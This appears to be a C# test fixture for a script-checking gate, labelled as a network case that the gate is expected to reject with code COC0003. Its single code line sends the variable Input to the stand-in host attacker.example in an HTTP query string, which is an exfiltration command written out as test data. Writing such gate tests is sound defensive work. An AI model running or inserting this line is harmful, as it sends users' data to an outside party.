// class: network
// expected: rejected COC0003
// why: http exfiltration; the gate refuses it (COC0003) before anything runs.
await new System.Net.Http.HttpClient().GetStringAsync("http://attacker.example/?d=" + Input);
